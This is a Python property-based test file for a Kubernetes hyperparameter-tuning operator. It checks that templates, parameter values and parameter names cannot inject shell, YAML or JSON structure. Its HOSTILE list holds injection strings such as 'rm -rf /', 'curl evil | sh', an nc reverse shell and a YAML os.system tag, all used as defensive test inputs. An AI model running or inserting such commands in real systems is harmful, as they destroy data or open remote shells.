"""No shell command, YAML or JSON structure can be injected into a trial through a parameter.

Where text enters a trial: the user's own template (command, args, env values) around the
`${params.<name>}` placeholders, parameter names, and parameter values. The properties:

- the template's text is data: whatever shell, YAML or JSON syntax it holds, the rendered
  Job and the local argv/env have exactly the template's elements, each equal to its
  template string with every placeholder replaced by a number's text, and nothing else;
  the Job survives a JSON and a YAML round trip unchanged (nothing is re-parsed);
- a parameter value is a finite number, always: rendering refuses anything else, and what
  it writes matches a number's grammar and parses back to the value itself;
- a parameter name is `[a-z][a-z0-9_]*` (or the manifest is refused), so neither the
  placeholder nor CARBS_PARAM_<NAME> can carry a metacharacter.
"""

from __future__ import annotations

import copy
import json
import math
import re
from collections.abc import Mapping
from typing import Any

import pytest
import yaml
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from carbs_operator.crd import trial_crd
from carbs_operator.k8s.trials import record_from_object
from carbs_operator.models import StudySpec
from carbs_operator.template import (
    TemplateError,
    build_job,
    format_param,
    param_strings,
    render_command,
    render_env,
    trial_env,
)
from carbs_operator.validation import ManifestError, parse_study, validate_manifest
from tests.operator.crd_harness import admission_errors
from tests.operator.manifest_cases import base_study, trial

NUMBER = re.compile(r"-?(0|[1-9][0-9]*)(\.[0-9]+)?(e[-+]?[0-9]+)?")
ENV_NAME = re.compile(r"[A-Z_][A-Z0-9_]*")
OWNER = {"apiVersion": "carbs.dev/v1alpha1", "kind": "CarbsTrial", "name": "digits-3",
         "uid": "u-1", "controller": True, "blockOwnerDeletion": True}
NAMES = ("lr", "width", "dropout", "momentum")  # the base manifest's parameters

HOSTILE = [
    "; rm -rf / #", "$(touch /tmp/pwned)", "`id`", "&& curl evil | sh", "| nc -e sh x 1",
    "\n- name: EVIL\n  value: x", '", "--evil": "', '"}, {"name": "EVIL", "value": "x"}, {"',
    "{{ .Values.x }}", "$(CARBS_PARAMS)", "${HOME}", "'", '"', "\\", "\x00", "\r\n",
    "\u202e", "%s%n", "*", "~", "--lr=1e9", "key: [a, {b: c}]", "!!python/object:os.system",
    "&anchor", "*alias", "# comment", "<<: *x", "${params.", "}", "${params.nope",
]
_pieces = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=6),
                    st.sampled_from([f"${{params.{name}}}" for name in NAMES]))
_template_text = st.lists(_pieces, max_size=5).map("".join)


def _values(draw: st.DrawFn) -> dict[str, float]:
    return {
        "lr": draw(st.floats(1e-5, 1.0)),
        "width": float(draw(st.integers(1, 128)) * 8),
        "dropout": draw(st.floats(0.01, 0.5)),
        "momentum": draw(st.floats(-1.0, 1.0)),
    }


def _expected(text: str, strings: Mapping[str, str]) -> str:
    for name, value in strings.items():
        text = text.replace(f"${{params.{name}}}", value)
    return text


@st.composite
def hostile_studies(draw: st.DrawFn) -> tuple[StudySpec, dict[str, Any], dict[str, float]]:
    """A valid study whose first container's command, args and env values are hostile text."""
    obj = base_study()
    container = obj["spec"]["trialTemplate"]["spec"]["template"]["spec"]["containers"][0]
    container["command"] = draw(st.lists(_template_text, min_size=1, max_size=3))
    container["args"] = draw(st.lists(_template_text, max_size=4))
    container["env"] = [{"name": f"USER_{i}", "value": value}
                        for i, value in enumerate(draw(st.lists(_template_text, max_size=3)))]
    try:
        spec = parse_study(obj).spec
    except ManifestError:
        assume(False)  # a stray malformed placeholder: refused up front, nothing renders
        raise
    return spec, container, _values(draw)


@settings(max_examples=300, deadline=None)
@given(hostile_studies())
def test_template_text_is_data_and_only_placeholders_change(
    case: tuple[StudySpec, dict[str, Any], dict[str, float]],
) -> None:
    spec, template, params = case
    strings = param_strings(spec, params)
    job = build_job("digits", "ml", "digits-3", 3, spec, params, OWNER)
    container = job["spec"]["template"]["spec"]["containers"][0]
    assert container["command"] == [_expected(t, strings) for t in template["command"]]
    assert container["args"] == [_expected(t, strings) for t in template["args"]]
    assert set(container) == set(template)  # no new container field
    user_env = [e for e in container["env"] if e["name"].startswith("USER_")]
    assert user_env == [{"name": e["name"], "value": _expected(e["value"], strings)}
                        for e in template["env"]]
    carbs_env = {e["name"] for e in container["env"]} - {e["name"] for e in user_env}
    assert carbs_env == {"CARBS_STUDY", "CARBS_TRIAL", "CARBS_PARAMS", "POD_NAME",
                         "POD_NAMESPACE", *(f"CARBS_PARAM_{n.upper()}" for n in NAMES)}
    assert set(job) == {"apiVersion", "kind", "metadata", "spec"}
    # Nothing is re-parsed: the Job is the same object after a JSON and a YAML round trip.
    assert json.loads(json.dumps(job)) == job
    assert yaml.safe_load(yaml.safe_dump(job)) == job
    # `carbs run` renders the same argv (a list: no shell) and the same env values.
    assert render_command(spec, params) == [*container["command"], *container["args"]]
    env = render_env(spec, "digits", "digits-3", params)
    assert {e["name"]: e["value"] for e in user_env} == {
        name: value for name, value in env.items() if name.startswith("USER_")}


@settings(max_examples=300, deadline=None)
@given(value=st.one_of(st.floats(allow_nan=False, allow_infinity=False),
                       st.integers(-(10**30), 10**30)),
       integer=st.booleans())
def test_a_rendered_value_is_a_number_that_parses_back_exactly(value: float,
                                                               integer: bool) -> None:
    if integer and isinstance(value, float) and not value.is_integer():
        with pytest.raises(TemplateError):
            format_param(value, integer)
        return
    text = format_param(value, integer)
    assert NUMBER.fullmatch(text), text
    assert float(text) == float(value)


_not_numbers = st.one_of(
    st.text(), st.binary(), st.none(), st.booleans(), st.lists(st.integers(), max_size=2),
    st.dictionaries(st.text(max_size=3), st.integers(), max_size=2),
    st.sampled_from([math.nan, math.inf, -math.inf]),
    st.sampled_from(HOSTILE),
)


@settings(max_examples=200, deadline=None)
@given(name=st.sampled_from(NAMES), value=_not_numbers)
def test_a_value_that_is_not_a_finite_number_is_never_rendered(name: str, value: Any) -> None:
    spec = parse_study(base_study()).spec
    params: dict[str, Any] = {"lr": 0.01, "width": 64, "dropout": 0.1, "momentum": 0.0}
    params[name] = value
    for render in (
        lambda: param_strings(spec, params),
        lambda: render_command(spec, params),
        lambda: render_env(spec, "digits", "digits-3", params),
        lambda: trial_env("digits", "digits-3", spec, params),
        lambda: build_job("digits", "ml", "digits-3", 3, spec, params, OWNER),
    ):
        with pytest.raises(TemplateError, match=name):
            render()


@settings(max_examples=100, deadline=None)
@given(value=st.one_of(st.sampled_from(HOSTILE), st.text(), st.booleans(),
                       st.lists(st.floats(), max_size=2)))
def test_a_trial_object_with_a_non_number_param_is_refused_or_never_rendered(value: Any) -> None:
    """A CarbsTrial's params are numbers or strings (a categorical's choice) to the schema
    and to the models; a string where the study declares a number, or anything else edited
    behind their back, fails to load or to render, never reaches a Job as text. (A null is
    left out: to the API server it means the entry is unset.)"""
    obj = trial()
    obj["spec"]["params"]["lr"] = value
    spec = parse_study(base_study()).spec
    if isinstance(value, str):  # a valid trial object, but lr is a number in this study
        assert validate_manifest(obj) == []
        params: dict[str, float | str] = {"width": 64, "dropout": 0.1, "momentum": 0.0,
                                          "lr": value}
        with pytest.raises(TemplateError, match="'lr' must be a number"):
            build_job("digits", "ml", "digits-3", 3, spec, params, OWNER)
        return
    assert validate_manifest(obj), "the models accept a non-scalar parameter value"
    assert admission_errors(obj, trial_crd()), "the CRD accepts a non-scalar parameter value"
    with pytest.raises((TypeError, ValueError)):  # and the operator refuses it on load
        record_from_object(obj)


@settings(max_examples=300, deadline=None)
@given(name=st.one_of(st.text(max_size=12), st.sampled_from(
    ["lr;id", "lr$(id)", "lr}", "a.b", "a-b", "A", "_x", "x y", "x\n", "λ", "lr\x00"])))
def test_a_parameter_name_can_carry_no_metacharacter(name: str) -> None:
    obj = copy.deepcopy(base_study())
    obj["spec"]["parameters"][3]["name"] = name
    container = obj["spec"]["trialTemplate"]["spec"]["template"]["spec"]["containers"][0]
    container["args"] = [*container["args"], f"--m=${{params.{name}}}"]
    problems = validate_manifest(obj)
    if re.fullmatch(r"[a-z][a-z0-9_]*", name) and len(name) <= 63 and name not in NAMES[:3]:
        assert problems == []
        spec = parse_study(obj).spec
        env = trial_env("digits", "digits-3", spec, {"lr": 0.01, "width": 64, "dropout": 0.1,
                                                     name: 0.5})
        assert all(ENV_NAME.fullmatch(key) for key in env)
    else:
        assert problems, f"a parameter named {name!r} is accepted"
